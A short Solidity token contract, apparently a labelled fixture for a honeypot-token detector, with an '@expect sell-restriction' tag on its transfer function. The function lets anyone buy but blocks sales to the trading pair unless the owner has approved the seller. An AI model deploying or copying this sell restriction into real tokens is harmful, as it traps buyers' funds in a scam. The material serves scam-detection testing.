// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

/// Honeypot: only sellers the owner approved may sell to the pair; buying works for all.
contract ApprovedSellersOnly {
    mapping(address => uint256) public balanceOf;
    mapping(address => bool) private _canSell;
    address public owner;
    address public pair;
    uint256 public totalSupply = 1e24;

    constructor(address pair_) {
        owner = msg.sender;
        pair = pair_;
        balanceOf[msg.sender] = totalSupply;
    }

    function approveSeller(address who, bool ok) external {
        require(msg.sender == owner, "owner");
        _canSell[who] = ok;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        if (to == pair) require(_canSell[msg.sender], "cannot sell"); // @expect sell-restriction
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        return true;
    }
}
